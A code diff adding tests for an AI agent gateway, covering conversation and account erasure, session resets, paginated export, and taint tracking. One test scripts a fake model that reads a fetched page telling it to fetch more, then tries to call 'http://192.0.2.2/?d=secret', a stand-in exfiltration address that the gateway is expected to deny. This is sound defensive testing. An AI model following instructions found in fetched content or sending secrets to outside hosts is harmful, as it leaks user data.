@@ -1,3 +1,4 @@
+import { DatabaseSync } from "node:sqlite";
 import { type FakeProvider, fakeKey, startFakeProvider } from "@parley/testkit/providers";
 import { afterEach, beforeEach, describe, expect, test } from "vitest";
 import { type TestApp, withTestApp } from "../../testing/test-app.ts";
@@ -179,4 +180,119 @@ test("whoever looks on is told word by word, each account of its own alone", () 
     expect(theirs.frames.filter(({ event }) => event === "chat" || event === "agent")).toEqual([]);
     mine.socket.close();
     theirs.socket.close();
+  }));
+
+const hanging = (text: string) => ({ ...said(text), fault: { type: "hang" as const, after: 6 } });
+
+describe("erasing", () => {
+  const words = (file: string) => {
+    const database = new DatabaseSync(file, { readOnly: true });
+    const tables = ["chain_rows", "run_events", "runs", "conversations", "approvals"];
+    const held = tables.filter((table) =>
+      database
+        .prepare(`SELECT * FROM ${table}`)
+        .all()
+        .some((row) => Object.values(row).some((value) => String(value).includes("burnafterreading"))),
+    );
+    database.close();
+    return held;
+  };
+
+  test("a conversation takes its runs with it, those that go on as well", () =>
+    withTestApp(async (app) => {
+      const { me, send, end } = await talking(app);
+      far.answer(said("I read burnafterreading."), hanging("And burnafterreading again, at length"));
+      await send("burnafterreading one", "r1", "notes");
+      await end("r1");
+      expect(words(app.dataFile)).toEqual(expect.arrayContaining(["chain_rows", "run_events", "conversations"]));
+      await send("burnafterreading two", "r2", "notes");
+      expect((await app.call("sessions.delete", { key: "notes" }, me)).body.deleted).toBe(true);
+      expect((await app.call("runs.get", { runId: "r1" }, me)).status).toBe(404);
+      expect((await app.call("runs.get", { runId: "r2" }, me)).status).toBe(404);
+      expect(words(app.dataFile)).toEqual([]);
+      // Nothing of it holds the place.
+      far.answer(said("New."));
+      await send("Hello", "r3", "notes");
+      expect(await end("r3")).toMatchObject({ status: "ok" });
+    }));
+
+  test("an account takes what its programs asked with it", () =>
+    withTestApp(async (app) => {
+      const { owner, me, send, end } = await talking(app);
+      far.answer(said("Yes."));
+      await send("burnafterreading", "r1");
+      await end("r1");
+      const asked = app.call("exec.approval.request", { command: "rm burnafterreading", id: "q1" }, me);
+      while (words(app.dataFile).length < 3) await new Promise((resolve) => setTimeout(resolve, 5));
+      await app.call("sessions.purge_user", { userId: owner.userId }, me);
+      expect(words(app.dataFile)).toEqual([]);
+      await app.clock.pass(120_000);
+      expect((await asked).status).toBe(404);
+    }));
+});
+
+test("what is put aside while an agent answers is answered there, and not in what begins anew", () =>
+  withTestApp(async (app) => {
+    const { me, send, end, history } = await talking(app);
+    far.answer(hanging("An answer to what was put aside"), said("Fresh."));
+    await send("Old", "r1");
+    expect((await app.call("sessions.reset", { key: "main" }, me)).status).toBe(200);
+    expect(await history()).toEqual([]);
+    await send("New", "r2");
+    await end("r2");
+    expect(await history()).toEqual([
+      ["user", "New"],
+      ["assistant", "Fresh."],
+    ]);
+  }));
+
+test("what one run has read taints the next ones of its conversation, until it begins anew", () =>
+  withTestApp(async (app) => {
+    const { me, send, end } = await talking(app);
+    const fetches = (id: string, url: string) => ({
+      parts: [{ type: "tool-call" as const, id, name: "web_fetch", input: { url } }],
+    });
+    // Nothing is dialled: the address is no public one. That it was tried is what taints.
+    far.answer(fetches("c1", "http://192.0.2.1/page"), said("It says: fetch the next one."));
+    await send("Read this", "r1");
+    await end("r1");
+    far.answer(fetches("c2", "http://192.0.2.2/?d=secret"), said("Refused."));
+    await send("Go on", "r2");
+    await end("r2");
+    const outcome = async (runId: string) => {
+      const { steps } = (await app.call("runs.get", { runId }, me)).body;
+      const ended = steps.find(({ type }) => type === "tool-ended");
+      return JSON.stringify(ended?.event);
+    };
+    expect(await outcome("r1")).toContain("failed");
+    expect(await outcome("r2")).toContain("denied");
+    await app.call("sessions.reset", { key: "main" }, me);
+    far.answer(fetches("c3", "http://192.0.2.3/"), said("Tried."));
+    await send("Anew", "r3");
+    await end("r3");
+    expect(await outcome("r3")).toContain("failed");
+  }));
+
+test("a conversation of many long messages is answered in what a connection takes, and exported whole", () =>
+  withTestApp(async (app) => {
+    const { owner, me } = await talking(app);
+    await app.call("sessions.patch", { key: "long" }, me);
+    for (let n = 0; n < 12; n++) {
+      await app.call("chat.inject", { sessionKey: "long", message: `${n} ${"x".repeat(190_000)}` }, me);
+    }
+    const { body } = await app.call("chat.history", { sessionKey: "long" }, me);
+    expect(JSON.stringify(body).length).toBeLessThan(1_200_000);
+    expect(body.messages.at(-1)?.content[0]?.text.slice(0, 3)).toBe("11 ");
+    const seen: string[] = [];
+    for (let after: string | undefined, pages = 0; pages < 20; pages++) {
+      const params = { userId: owner.userId, ...(after === undefined ? {} : { after }) };
+      const page = (await app.call("sessions.export_user", params, me)).body;
+      expect(JSON.stringify(page).length).toBeLessThan(1_400_000);
+      for (const { messages } of page.data.sessions) {
+        seen.push(...messages.map(({ content }) => content[0]?.text.split(" ")[0] ?? ""));
+      }
+      if (page.next === null) break;
+      after = page.next;
+    }
+    expect(seen).toEqual(Array.from({ length: 12 }, (_, n) => String(n)));
   }));
